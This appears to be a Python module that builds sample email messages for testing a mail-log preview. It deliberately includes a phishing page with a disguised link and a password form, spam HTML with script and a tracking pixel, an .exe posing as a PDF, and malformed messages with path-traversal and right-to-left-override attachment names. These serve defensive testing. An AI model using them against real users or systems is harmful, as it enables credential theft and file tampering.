"""The raw text of a logged message, made up from its fields when somebody wants to read it.

Spam and phishing hold what a preview must survive: script, remote pictures, a link that says one thing and leads to
another. A "virus" is a text file with a name that looks dangerous.
"""

from __future__ import annotations

import email.policy
import email.utils
from email.message import EmailMessage
from typing import Any

_SPAM = """<html><body onload="alert('spam')"><h1 style="color:red">{subject}</h1>
<p>Dear {name}, you are today's lucky winner. <a href="http://win.prize.example.net/claim">Claim now!</a></p>
<img src="http://track.prize.example.net/pixel.gif?id={id}" width="1" height="1">
<script>document.location = "http://win.prize.example.net/";</script></body></html>
"""
_PHISH = """<html><body><p>Dear {name},</p><p>your account will be closed today.
<a href="http://198.51.100.23/login">https://www.bank.example.org/login</a></p>
<form action="http://198.51.100.23/login"><input name="password" type="password"></form></body></html>
"""
_PLAIN = """Hello {name},

{subject}. Please find the details below.

Kind regards
{sender}
"""


HOSTILE = {
    "Hostile: nested without end": "nested",
    "Hostile: ten thousand recipients": "recipients",
    "Hostile: a header of half a megabyte": "header",
    "Hostile: invoice\u202efdp.exe": "names",
    "Hostile: a broken structure": "broken",
}
"""Messages that whoever shows mail must survive, by their subjects: see ``seeding``."""


def raw(message: dict[str, Any]) -> str:
    """Return headers, a blank line and the body, lines ended by CRLF."""
    if message["subject_header"] in HOSTILE:
        return _hostile(message, HOSTILE[message["subject_header"]])
    mail = EmailMessage(policy=email.policy.SMTP)
    mail["Received"] = (
        f"from {message['helo']} ({message['sender_host']} [{message['sender_ip']}])"
        f" by {message['filtering_host']} with esmtps id {message['id']}"
    )
    mail["From"] = message["from_header"]
    mail["To"] = message["to_header"]
    mail["Subject"] = message["subject_header"]
    mail["Date"] = email.utils.formatdate(message["timestamp"])
    mail["Message-ID"] = f"<{message['id']}@{message['sender_host']}>"
    mail["X-Filter-Class"] = message["classification"]
    _fill(mail, message)
    return mail.as_bytes().decode("utf-8", "replace")


def _hostile(message: dict[str, Any], kind: str) -> str:
    head = [
        f"Received: from {message['helo']} by {message['filtering_host']} with esmtps id {message['id']}",
        f"From: {message['from_header']}",
        f"Subject: {message['subject_header']}",
    ]
    rest: dict[str, list[str]] = {
        "recipients": [
            "To: " + ",\r\n ".join(f"p{n}@example.org" for n in range(10_000)),
            "",
            "To everybody.",
        ],
        "header": ["X-Junk: " + "a" * 500_000, "", "The header is longer than the mail."],
        "broken": ["Content-Type: multipart/mixed; boundary=lost", "", "--lost", "", "No end", "--other--"],
        "nested": [
            *(
                line
                for n in range(300)
                for line in (f"Content-Type: multipart/mixed; boundary=b{n}", "", f"--b{n}")
            ),
            *("Content-Type: text/html", "", "<div>" * 5000 + "the bottom"),
        ],
        "names": [
            "Content-Type: multipart/mixed; boundary=b",
            *("", "--b", "", "See the files.", "--b"),
            *('Content-Type: application/octet-stream; name="..\\\\..\\\\boot.ini"', "", "a path", "--b"),
            "Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fetc%2Finvoice%E2%80%AEfdp.exe",
            *("", "turned around", "--b--"),
        ],
    }
    return "\r\n".join([*head, *rest[kind], ""])


def _fill(mail: EmailMessage, message: dict[str, Any]) -> None:
    words = {
        "name": message["recipient"].split("@")[0].replace(".", " ").title(),
        "subject": message["subject_header"],
        "sender": message["from_header"].split(" <")[0],
        "id": message["id"],
    }
    mail.set_content(_PLAIN.format(**words))
    match message["classification"]:
        case "spam":
            mail.add_alternative(_SPAM.format(**words), subtype="html")
        case "phish":
            mail.add_alternative(_PHISH.format(**words), subtype="html")
        case "virus":
            mail.add_attachment("This text stands for a virus.\n", filename="invoice.pdf.exe")
